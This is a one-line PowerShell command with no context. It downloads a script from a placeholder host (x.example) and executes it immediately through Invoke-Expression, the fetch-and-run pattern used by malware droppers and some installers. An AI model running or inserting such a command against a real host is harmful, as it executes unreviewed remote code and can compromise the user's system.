iex (iwr https://x.example/i.ps1)
